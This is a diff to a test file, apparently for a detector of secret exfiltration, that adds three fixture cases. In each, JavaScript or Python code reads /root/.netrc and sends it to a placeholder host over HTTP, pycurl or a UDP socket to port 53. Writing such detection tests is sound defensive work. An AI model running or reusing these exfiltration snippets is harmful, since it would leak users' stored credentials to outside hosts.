@@ -131,6 +131,27 @@ const CASES: readonly Case[] = [
     },
     ['credential-file > http c.example.invalid'],
   ],
+  [
+    'a client of a library that nobody knows',
+    {
+      'a.mjs': `import { Thing } from 'thing';\nimport fs from 'node:fs';\nconst thing = new Thing('https://c.example.invalid');\nthing.submit({ body: fs.readFileSync('/root/.netrc', 'utf8') });`,
+    },
+    ['credential-file > http c.example.invalid'],
+  ],
+  [
+    'options that are set one by one',
+    {
+      'a.py': `import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://c.example.invalid')\nc.setopt(c.POSTFIELDS, open('/root/.netrc').read())\nc.perform()`,
+    },
+    ['credential-file > http c.example.invalid'],
+  ],
+  [
+    'packets without a connection',
+    {
+      'a.py': `import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(open('/root/.netrc', 'rb').read(), ('192.0.2.4', 53))`,
+    },
+    ['credential-file > socket 192.0.2.4'],
+  ],
 ];
 
 describe('a secret that waits before it is sent', () => {
